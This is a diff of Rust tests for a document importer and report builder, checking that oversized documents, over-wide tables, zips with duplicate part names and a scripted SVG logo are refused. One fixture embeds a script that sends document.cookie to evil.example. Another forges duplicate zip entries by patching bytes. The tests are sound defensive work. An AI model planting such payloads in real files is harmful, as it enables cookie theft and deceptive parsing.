@@ -273,9 +273,9 @@ fn a_project_picture_with_too_many_pixels_is_refused_at_its_reference_before_typ
     assert!(!project.join("build").exists(), "something was built");
 }
 
-/// 2,000 columns took 1.6 s, and the time grew with the cube of the columns (each
-/// column's id was checked against every id before it, once per number tried): 5,000
-/// took about 25 s.
+/// The time grew with the cube of the columns (each column's id was checked against
+/// every id before it, once per number tried): 2,000 columns titled alike took 1.6 s
+/// to import, 5,000 over a minute.
 #[test]
 fn a_table_of_five_thousand_columns_is_imported_in_linear_time() {
     let cell = "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>";
@@ -370,4 +370,73 @@ fn entity_expansion_is_refused() {
     zip.write_all(lol.as_bytes()).unwrap();
     let bytes = zip.finish().unwrap().into_inner();
     refused("import-entities", &bytes, "is damaged: its word/document.xml cannot be read (it has a DOCTYPE");
+}
+
+#[test]
+fn a_document_of_half_a_million_paragraphs_or_twenty_thousand_tables_is_refused() {
+    let paragraphs = p("word ").repeat(490_000);
+    refused(
+        "import-paragraphs",
+        &docx(&paragraphs, &[], &[]),
+        "has 490,000 paragraphs, more than the limit of 100,000 for a contribution",
+    );
+    let table = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr></w:tbl>";
+    refused(
+        "import-tables",
+        &docx(&table.repeat(20_000), &[], &[]),
+        "has 20,000 tables, more than the limit of 500 for a contribution",
+    );
+}
+
+/// Cells spanning 64 columns each made a data set of 320,000 columns, 14 MB, which
+/// the check then refused as too large a file: the table is left out and noted.
+#[test]
+fn a_table_wider_than_word_makes_is_left_out_with_a_note() {
+    let cell = r#"<w:tc><w:tcPr><w:gridSpan w:val="64"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>"#;
+    let body = [p("Our year."), format!("<w:tbl><w:tr>{}</w:tr><w:tr>{}</w:tr></w:tbl>", cell.repeat(5_000), cell.repeat(5_000))].concat();
+    let cwd = workspace("import-spanned-table", &docx(&body, &[], &[]));
+    import(&cwd)
+        .assert_within_limits(0)
+        .says("a table of 320,000 columns: left out, as Word's own tables have at most 63 columns");
+    assert!(!cwd.join("project/content/data/council_table_1.yaml").exists());
+}
+
+#[test]
+fn a_logo_svg_with_script_is_refused_at_its_place_in_report_yaml() {
+    let project = copy_project(&fixture("mini"), "project-logo");
+    std::fs::write(
+        project.join("content/images/logo.svg"),
+        r#"<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><script>fetch('https://evil.example/?'+document.cookie)</script><text x="4" y="30">TSCP</text></svg>"#,
+    )
+    .unwrap();
+    let report = project.join("report.yaml");
+    let text = std::fs::read_to_string(&report).unwrap();
+    let line = text.lines().count() + 2;
+    std::fs::write(&report, format!("{text}branding:\n  logo: content/images/logo.svg\n  logo_alt: TSCP\n")).unwrap();
+    let run = run_bounded(&project, &["build", "--draft"]);
+    measured("build", &run);
+    run.assert_within_limits(2)
+        .says(&format!("report.yaml:{line}"))
+        .says("content/images/logo.svg is an SVG picture holding a script (<script>)");
+    assert!(!project.join("build").exists(), "something was built");
+}
+
+/// Which of two parts of the same name a program reads differs from one to another,
+/// so the words imported might not be the words Word shows.
+#[test]
+fn two_parts_of_the_same_name_are_refused() {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
+    for (name, words) in [("word/document.xml", "What Word shows"), ("word/document.xmY", "What else is read")] {
+        zip.start_file(name, options).unwrap();
+        write!(zip, r#"<w:document xmlns:w="{W}"><w:body>{}</w:body></w:document>"#, p(words)).unwrap();
+    }
+    let mut bytes = zip.finish().unwrap().into_inner();
+    // Both entries' names, in their local headers and in the central directory.
+    for at in 0..bytes.len() - 17 {
+        if &bytes[at..at + 17] == b"word/document.xmY" {
+            bytes[at + 16] = b'l';
+        }
+    }
+    refused("import-duplicate", &bytes, "is damaged or was made to deceive: two of its parts have the same name");
 }
